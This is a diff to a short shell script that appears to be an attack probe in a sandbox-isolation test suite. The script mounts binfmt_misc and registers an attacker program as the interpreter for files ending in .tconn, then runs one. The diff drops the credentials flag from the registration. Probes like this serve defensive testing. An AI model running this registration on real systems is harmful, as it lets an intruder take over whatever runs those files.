@@ -1,7 +1,7 @@
 #!/bin/sh
 # SPDX-License-Identifier: Apache-2.0
 # Registers itself as the interpreter of all programs whose names end in a suffix that
-# it could choose to be any: whoever starts one starts the attacker, with all rights.
+# it could choose to be any: whoever starts one starts the attacker.
 #
 # attack: binfmt_interpreter
 # class: system
@@ -17,7 +17,7 @@ misc=/tmp/binfmt
 mkdir -p "$misc"
 ready
 mount -t binfmt_misc binfmt_misc "$misc" || failed it cannot be mounted
-put "$misc/register" ':attack:E::tconn::/attack/binfmt_interpreter:C' || failed it cannot register
+put "$misc/register" ':attack:E::tconn::/attack/binfmt_interpreter:' || failed it cannot register
 echo >/tmp/program.tconn
 chmod 755 /tmp/program.tconn
 /tmp/program.tconn
